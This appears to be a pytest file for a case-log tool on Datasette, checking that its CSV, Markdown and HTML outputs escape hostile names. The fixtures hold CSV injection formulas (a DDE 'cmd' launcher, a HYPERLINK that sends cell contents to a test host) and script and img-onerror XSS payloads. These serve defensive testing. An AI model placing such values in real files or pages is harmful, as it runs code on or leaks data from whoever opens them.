"""Outputs that cannot be turned against their reader: formulas in CSV, markup in Markdown and HTML."""

from __future__ import annotations

import asyncio
import csv
import io
import re

import pytest
from datasette.app import Datasette

from caselog import cells
from conftest import CaseLog

FORMULA = "=HYPERLINK(\"http://x.test/?\"&A1,\"点此\")"
HOSTILE_AGENCY = "市局 | 999 | 0.0%"
SCRIPT = "<script>document.title='pwned'</script>"
IMG = '"><img src=x onerror="document.title=\'pwned\'">'


@pytest.mark.parametrize("cell, shown", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-3", "-3"), ("-0.25", "-0.25"), ("1e-5", "1e-5"), ("市公安局", "市公安局"), (-3, -3), (None, None),
])
def test_neutralise_puts_an_apostrophe_before_a_formula_and_keeps_numbers(cell, shown):
    assert cells.neutralise(cell) == shown


def test_markdown_text_cannot_open_a_cell_a_row_or_a_link():
    text = cells.markdown_text("市局 | 999\n| x | [点此](http://x.test) <http://y.test>")
    assert "\n" not in text
    assert re.findall(r"(?<!\\)[|\[\]()<>]", text) == [], "every character Markdown reads as syntax is escaped"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> CaseLog:
    """A log whose clerk, agency, plaintiff and official are formulas and markup."""
    log = CaseLog(tmp_path_factory.mktemp("hostile") / "caselog.db")
    log.names.update(C="(2022)浙0302行初1号", D="(2022)浙0302行初2号")
    log.do(f"file {{C}} --filed-on 2022-03-01 --court 某法院 --agency '{HOSTILE_AGENCY}' --cause 行政处罚 "
           f"--plaintiff '{FORMULA}'", clerk="=cmd|' /C calc'!A0")
    log.do(f"file {{D}} --filed-on 2022-03-02 --court 某法院 --agency '{SCRIPT}' --cause 行政处罚 "
           f"--plaintiff '@SUM(A1)'")
    log.do(f"hearing {{D}} --held-on 2022-05-10 --attendance staff --official '{IMG}'")
    return log


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert cells.neutralise(cell) == cell, f"{cell!r} would run as a formula"


def test_events_csv_neutralises_a_clerk_named_like_a_formula(hostile):
    result = hostile.invoke("events", "--csv")
    assert result.exit_code == 0, result.stderr
    rows = _rows(result.stdout)
    _no_formula(rows)
    assert "'=cmd|' /C calc'!A0" in [row[2] for row in rows]


def test_summary_csv_neutralises_agency_names(hostile):
    hostile.do("file '(2022)浙0302行初3号' --filed-on 2022-04-01 --court 某法院 --agency '=1+2' --cause 行政处罚")
    result = hostile.invoke("summary", "--year", "2022", "--format", "csv")
    rows = _rows(result.stdout)
    _no_formula(rows)
    assert "'=1+2" in [row[5] for row in rows]


def test_a_name_with_a_pipe_adds_no_cell_or_row_to_the_markdown_summary(hostile):
    result = hostile.invoke("summary", "--year", "2022", "--format", "markdown")
    table = [line for line in result.stdout.splitlines() if line.startswith("|")]
    columns = {len(line.replace("\\|", "").split("|")) for line in table[2:]}  # the agency table's width
    agency_rows = [line for line in table if "市局" in line]
    assert len(agency_rows) == 1 and len(agency_rows[0].replace("\\|", "").split("|")) == max(columns)
    assert "| 999 |" not in result.stdout


def test_datasettes_csv_neutralises_every_cell(hostile):
    ds = Datasette([str(hostile.path)])

    async def run():
        return [await ds.client.get(path) for path in (
            "/caselog/cases.csv", "/caselog/events.csv?_stream=1", "/caselog.csv?sql=select+'%3D1%2B1'+as+x,+-3+as+n")]

    cases, events, query = asyncio.run(run())
    for response in (cases, events, query):
        assert response.status_code == 200, response.text
        _no_formula(_rows(response.text))
    assert "'@SUM(A1)" in [row[-1] for row in _rows(cases.text)] or "'@SUM(A1)" in cases.text
    assert "'=cmd|' /C calc'!A0" in events.text
    assert _rows(query.text)[1] == ["'=1+1", "-3"]


@pytest.mark.parametrize("path", ["/caselog/cases", "/caselog/hearings", "/caselog/events",
                                  "/-/caselog/dashboard?year=2022"])
def test_markup_in_names_is_shown_as_text(hostile, path):
    response = asyncio.run(Datasette([str(hostile.path)]).client.get(path))
    assert response.status_code == 200
    assert "<script>document.title" not in response.text and "<img src=x" not in response.text
